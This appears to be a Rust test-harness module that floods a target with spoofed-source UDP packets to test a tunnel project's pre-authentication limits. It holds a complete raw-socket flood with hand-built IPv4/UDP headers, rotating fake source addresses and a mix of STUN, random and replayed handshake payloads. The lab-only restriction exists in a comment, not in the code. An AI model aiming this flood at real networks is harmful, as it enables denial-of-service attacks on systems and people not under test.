//! A spoofed-source UDP flood, for tests of the pre-authentication limits
//! (`docs/limits.md`) against real agents.
//!
//! A thread enters a lab namespace (`setns`, which moves only that thread),
//! opens a raw IPv4 socket (`IPPROTO_RAW`: the packets carry their own IP
//! header, so their source addresses are whatever the flood chooses) and
//! sends batches with `sendmmsg` as fast as the machine lets it, until the
//! duration is over or [`Flood::stop`]. Each packet comes from the next
//! address of a source prefix (thousands of distinct sources, each with a
//! pseudo-random source port) and carries the next payload of a mix:
//! STUN binding requests (fresh transaction id each), datagrams given by
//! the test (e.g. a valid IHello, made with the network's secret, for an
//! attacker who holds it) and random garbage.
//!
//! Only the lab: the destination must be a lab address and the sender a lab
//! namespace, whose routes end inside the lab.

use std::mem::size_of;
use std::net::{Ipv4Addr, SocketAddrV4};
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use anyhow::{bail, Context, Result};

use crate::Ns;

/// Packets per `sendmmsg` call.
const BATCH: usize = 64;
/// Room per packet: IPv4 header, UDP header, payload.
const PACKET_ROOM: usize = 1500;
const IP_HDR: usize = 20;
const UDP_HDR: usize = 8;

/// What to send.
#[derive(Debug, Clone)]
pub struct FloodSpec {
    pub target: SocketAddrV4,
    /// Sources: every address of `source_base/source_prefix` in turn.
    pub source_base: Ipv4Addr,
    pub source_prefix: u8,
    pub duration: Duration,
    /// Datagrams sent as they are, in turn with a STUN binding request and
    /// a random one (each at most 1400 bytes).
    pub payloads: Vec<Vec<u8>>,
}

/// What was sent.
#[derive(Debug, Clone, Copy)]
pub struct FloodReport {
    pub sent: u64,
    /// `sendmmsg` calls that failed (e.g. `ENOBUFS` under load).
    pub errors: u64,
    pub elapsed: Duration,
    /// Distinct source addresses used.
    pub sources: u64,
}

impl FloodReport {
    /// Packets per second.
    pub fn rate(&self) -> f64 {
        self.sent as f64 / self.elapsed.as_secs_f64().max(1e-9)
    }
}

/// A running flood.
pub struct Flood {
    stop: Arc<AtomicBool>,
    thread: JoinHandle<Result<FloodReport>>,
}

impl Flood {
    /// Starts flooding from namespace `ns`.
    pub fn start(ns: &Ns, spec: FloodSpec) -> Result<Flood> {
        if spec.source_prefix > 30 || spec.source_prefix < 8 {
            bail!("source prefix /{} out of 8..=30", spec.source_prefix);
        }
        if spec.payloads.iter().any(|p| p.len() > 1400) {
            bail!("flood payloads are at most 1400 bytes");
        }
        let netns = std::fs::File::open(ns.path())
            .with_context(|| format!("open {}", ns.path().display()))?;
        let stop = Arc::new(AtomicBool::new(false));
        let stop2 = stop.clone();
        let thread = std::thread::Builder::new()
            .name("lab-flood".into())
            .spawn(move || {
                // SAFETY: setns on a file descriptor we own; it moves only
                // this thread into the namespace.
                if unsafe { libc::setns(netns.as_raw_fd(), libc::CLONE_NEWNET) } != 0 {
                    bail!("setns: {}", std::io::Error::last_os_error());
                }
                drop(netns);
                run(&spec, &stop2)
            })
            .context("spawn the flood thread")?;
        Ok(Flood { stop, thread })
    }

    /// Ends the flood now.
    pub fn stop(&self) {
        self.stop.store(true, Ordering::Relaxed);
    }

    /// Waits for the flood to end (its duration, or [`Flood::stop`]).
    pub fn finish(self) -> Result<FloodReport> {
        match self.thread.join() {
            Ok(r) => r,
            Err(_) => bail!("the flood thread panicked"),
        }
    }
}

/// A small xorshift generator: the flood needs speed, not quality.
struct Xs(u64);

impl Xs {
    fn next(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        self.0 = x;
        x
    }
}

fn run(spec: &FloodSpec, stop: &AtomicBool) -> Result<FloodReport> {
    // SAFETY: plain socket(2); the result is checked and owned at once.
    let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW) };
    if fd < 0 {
        bail!("raw socket: {}", std::io::Error::last_os_error());
    }
    // SAFETY: fd is a fresh, valid descriptor nobody else owns.
    let sock = unsafe { OwnedFd::from_raw_fd(fd) };
    let dst = libc::sockaddr_in {
        sin_family: libc::AF_INET as libc::sa_family_t,
        sin_port: 0,
        sin_addr: libc::in_addr {
            s_addr: u32::from(*spec.target.ip()).to_be(),
        },
        sin_zero: [0; 8],
    };
    let hosts = 1u64 << (32 - spec.source_prefix);
    let base = u32::from(spec.source_base) & !((hosts - 1) as u32);
    let mut rng = Xs(0x9e37_79b9_7f4a_7c15);
    let mut bufs = vec![[0u8; PACKET_ROOM]; BATCH];
    let mut iovs: Vec<libc::iovec> = Vec::with_capacity(BATCH);
    let mut msgs: Vec<libc::mmsghdr> = Vec::with_capacity(BATCH);
    let kinds = spec.payloads.len() + 2;
    let (mut sent, mut errors, mut n) = (0u64, 0u64, 0u64);
    let t0 = Instant::now();
    while t0.elapsed() < spec.duration && !stop.load(Ordering::Relaxed) {
        iovs.clear();
        for (i, buf) in bufs.iter_mut().enumerate() {
            // Skip the network and broadcast addresses of the prefix.
            let host = 1 + (n + i as u64) % (hosts - 2);
            let src = Ipv4Addr::from(base + host as u32);
            let kind = ((n + i as u64) % kinds as u64) as usize;
            let payload_len = {
                let p = &mut buf[IP_HDR + UDP_HDR..];
                match kind {
                    0 => stun_request(p, &mut rng),
                    1 => {
                        let len = 60 + (rng.next() % 140) as usize;
                        for b in &mut p[..len] {
                            *b = rng.next() as u8;
                        }
                        len
                    }
                    k => {
                        let d = &spec.payloads[k - 2];
                        p[..d.len()].copy_from_slice(d);
                        d.len()
                    }
                }
            };
            let sport = 1024 + (rng.next() % 60000) as u16;
            let len = headers(buf, src, spec.target, sport, payload_len);
            iovs.push(libc::iovec {
                iov_base: buf.as_mut_ptr().cast(),
                iov_len: len,
            });
        }
        msgs.clear();
        for iov in iovs.iter_mut() {
            // SAFETY: an all-zero mmsghdr is valid; the pointers set below
            // outlive the sendmmsg call.
            let mut m: libc::mmsghdr = unsafe { std::mem::zeroed() };
            m.msg_hdr.msg_name = (&dst as *const libc::sockaddr_in).cast_mut().cast();
            m.msg_hdr.msg_namelen = size_of::<libc::sockaddr_in>() as libc::socklen_t;
            m.msg_hdr.msg_iov = iov;
            m.msg_hdr.msg_iovlen = 1;
            msgs.push(m);
        }
        // SAFETY: msgs holds BATCH valid headers pointing at live buffers.
        let r = unsafe {
            libc::sendmmsg(
                sock.as_raw_fd(),
                msgs.as_mut_ptr(),
                msgs.len() as libc::c_uint,
                0,
            )
        };
        if r < 0 {
            errors += 1;
            std::thread::yield_now();
        } else {
            sent += r as u64;
        }
        n += BATCH as u64;
    }
    Ok(FloodReport {
        sent,
        errors,
        elapsed: t0.elapsed(),
        sources: n.min(hosts - 2),
    })
}

/// A STUN binding request (RFC 8489: type 0x0001, no attributes, magic
/// cookie, fresh 96-bit transaction id); returns its length.
fn stun_request(p: &mut [u8], rng: &mut Xs) -> usize {
    p[..4].copy_from_slice(&[0x00, 0x01, 0x00, 0x00]);
    p[4..8].copy_from_slice(&0x2112_A442u32.to_be_bytes());
    p[8..16].copy_from_slice(&rng.next().to_be_bytes());
    p[16..20].copy_from_slice(&(rng.next() as u32).to_be_bytes());
    20
}

/// Writes the IPv4 and UDP headers in front of a payload of `len` bytes;
/// returns the packet's length. The kernel fills the IP checksum and
/// identification; the UDP checksum is 0 (none, allowed over IPv4).
fn headers(buf: &mut [u8], src: Ipv4Addr, dst: SocketAddrV4, sport: u16, len: usize) -> usize {
    let total = IP_HDR + UDP_HDR + len;
    let ip = &mut buf[..IP_HDR];
    ip[0] = 0x45;
    ip[1] = 0;
    ip[2..4].copy_from_slice(&(total as u16).to_be_bytes());
    ip[4..6].fill(0);
    ip[6..8].copy_from_slice(&0x4000u16.to_be_bytes());
    ip[8] = 64;
    ip[9] = libc::IPPROTO_UDP as u8;
    ip[10..12].fill(0);
    ip[12..16].copy_from_slice(&src.octets());
    ip[16..20].copy_from_slice(&dst.ip().octets());
    let udp = &mut buf[IP_HDR..IP_HDR + UDP_HDR];
    udp[0..2].copy_from_slice(&sport.to_be_bytes());
    udp[2..4].copy_from_slice(&dst.port().to_be_bytes());
    udp[4..6].copy_from_slice(&((UDP_HDR + len) as u16).to_be_bytes());
    udp[6..8].fill(0);
    total
}

/// A valid IHello of network `network` (secret `secret`, as the secret file
/// holds it) addressed to `to`, from a throwaway identity: what an attacker
/// holding the secret replays from spoofed sources (the Default Session Key
/// has no replay window, docs/crypto-profile.md 7.2).
pub fn ihello(network: &str, secret: [u8; 32], to: std::net::SocketAddr) -> Result<Vec<u8>> {
    use ringlan_tunnel::crypto::{Identity, NetworkName, NetworkSecret};
    use ringlan_tunnel::{Endpoint, EndpointConfig, Path, Rng, Target};
    let name = NetworkName::new(network).map_err(|_| anyhow::anyhow!("network name {network}"))?;
    let identity = Identity::from_secret_key_bytes([0x5a; 32], &name);
    let cfg = EndpointConfig::new(identity, name, NetworkSecret::from_bytes(secret));
    let now = Instant::now();
    let mut ep = Endpoint::new(now, cfg, Rng::from_seed([0x5a; 32]));
    let s = ep
        .connect(now, Target::Any, &[Path::Direct(to)])
        .map_err(|e| anyhow::anyhow!("connect: {e}"))?;
    ep.ihello_datagram(s)
        .ok_or_else(|| anyhow::anyhow!("no IHello for a fresh session"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn packet_layout() {
        let mut buf = [0u8; PACKET_ROOM];
        let mut rng = Xs(1);
        let n = stun_request(&mut buf[IP_HDR + UDP_HDR..], &mut rng);
        let dst = SocketAddrV4::new(Ipv4Addr::new(198, 51, 100, 1), 4910);
        let len = headers(&mut buf, Ipv4Addr::new(203, 0, 113, 9), dst, 5000, n);
        assert_eq!(len, 48);
        assert_eq!(&buf[..2], &[0x45, 0]);
        assert_eq!(u16::from_be_bytes([buf[2], buf[3]]), 48);
        assert_eq!(buf[9], 17);
        assert_eq!(&buf[12..16], &[203, 0, 113, 9]);
        assert_eq!(&buf[16..20], &[198, 51, 100, 1]);
        assert_eq!(u16::from_be_bytes([buf[20], buf[21]]), 5000);
        assert_eq!(u16::from_be_bytes([buf[22], buf[23]]), 4910);
        assert_eq!(u16::from_be_bytes([buf[24], buf[25]]), 28);
        // STUN: binding request, length 0, magic cookie.
        assert_eq!(&buf[28..36], &[0, 1, 0, 0, 0x21, 0x12, 0xa4, 0x42]);
    }
}
